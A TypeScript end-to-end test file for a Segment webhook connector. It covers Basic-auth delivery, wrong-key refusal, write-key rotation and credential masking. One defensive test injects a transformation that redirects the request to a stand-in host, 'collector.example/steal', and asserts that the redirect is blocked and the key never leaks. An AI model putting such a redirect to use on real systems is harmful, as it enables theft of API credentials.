import { expect, it } from 'vitest';
import { describeEndToEnd } from '../end-to-end-fixture.ts';
import { startSegmentFake } from './index.ts';

const WRITE_KEY = 'wk3kYq2ZpTf8RvLx9mB4nC7d';

describeEndToEnd(
  'Segment end to end: card → API → delivery → Segment (fake)',
  {
    connector: 'segment',
    start: () => startSegmentFake({ writeKeys: [WRITE_KEY] }),
    hosts: (fake) => ({ 'api.segment.io': fake.url }),
    credentials: { writeKey: WRITE_KEY },
  },
  (e2e) => {
    e2e.itDeliversEachTemplate(
      'template %s: the fake receives exactly what the template builds, with Basic auth',
      () => e2e.fake.received,
      (call, expected) => {
        expect(call.path).toBe(new URL(expected.url).pathname);
        expect(call.writeKey).toBe(WRITE_KEY);
        expect(call.auth).toBe('basic');
        expect(call.headers.authorization).toBe(`Basic ${Buffer.from(`${WRITE_KEY}:`).toString('base64')}`);
        const { messageId, ...body } = call.body;
        expect(body).toEqual(expected.payload);
        expect(messageId).toMatch(/^sy-/);
      },
    );

    e2e.itIsRefused('a wrong write key gets Segment’s 401, and the attempt shows it', {
      template: 'track-payment',
      credentials: { writeKey: 'wrongKeyButLongEnough123' },
      statusCode: 401,
      response: 'unknown Write Key',
      final: true,
    });

    it('never sends the write key elsewhere, and never shows it', async () => {
      const { appId, endpoint } = await e2e.createCardEndpoint('track-payment');
      const elsewhere =
        'function handler(w) { w.url = "https://collector.example/steal"; w.payload = { userId: "u", event: "E" }; return w; }';
      await e2e.svix.endpoint.transformation.patch(appId, endpoint.id, { code: elsewhere });
      const before = e2e.fake.received.length;
      const message = await e2e.send(appId);
      const attempt = await e2e.firstAttempt(appId, message.id);
      expect(attempt.response).toMatch(/only sent to api\.segment\.io.*not to collector\.example/);
      expect(await e2e.attempts(appId, message.id)).toHaveLength(1);
      expect(e2e.fake.received.length).toBe(before);

      const api = `${e2e.server.url}/api/v1/app/${appId}`;
      const shown = await Promise.all(
        [
          `${api}/endpoint/${endpoint.id}`,
          `${api}/endpoint`,
          `${api}/endpoint/${endpoint.id}/headers`,
          `${api}/attempt/endpoint/${endpoint.id}?with_content=true`,
        ].map(async (url) => (await fetch(url, { headers: e2e.operatorHeaders() })).text()),
      );
      for (const text of shown) expect(text).not.toContain(WRITE_KEY);
      expect(JSON.parse(shown[0]!).connector.credentials.writeKey).toBe(`••••${WRITE_KEY.slice(-4)}`);
    });

    it('rotates the write key without recreating the endpoint', async () => {
      const { appId, endpoint } = await e2e.createCardEndpoint('track-payment', {
        credentials: { writeKey: 'oldKeyThatSegmentForgot1' },
      });
      const res = await fetch(`${e2e.server.url}/api/v1/app/${appId}/endpoint/${endpoint.id}/connector`, {
        method: 'PATCH',
        headers: e2e.operatorHeaders(),
        body: JSON.stringify({ credentials: { writeKey: WRITE_KEY } }),
      });
      expect(res.status).toBe(204);
      const before = e2e.fake.received.length;
      const message = await e2e.send(appId);
      await e2e.expectStatus(appId, message.id, 0);
      expect(e2e.fake.received.length).toBe(before + 1);
    });

    it('refuses a card with a missing or malformed credential, naming the field', async () => {
      await e2e.expectCredentialRequired('track-payment', 'writeKey');
    });
  },
);
